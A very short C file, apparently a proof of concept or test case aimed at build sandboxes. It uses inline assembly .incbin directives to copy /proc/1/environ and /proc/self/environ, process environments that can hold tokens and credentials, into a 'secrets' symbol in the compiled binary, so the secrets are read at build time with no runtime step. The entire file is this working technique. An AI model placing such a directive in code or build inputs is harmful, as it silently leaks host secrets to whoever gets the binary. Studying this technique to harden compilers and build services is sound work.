// The assembler reads the environment of other processes.
__asm__("secrets: .incbin \"/proc/1/environ\"\n.incbin \"/proc/self/environ\"\n.byte 0\n");
int main(void) { return 0; }
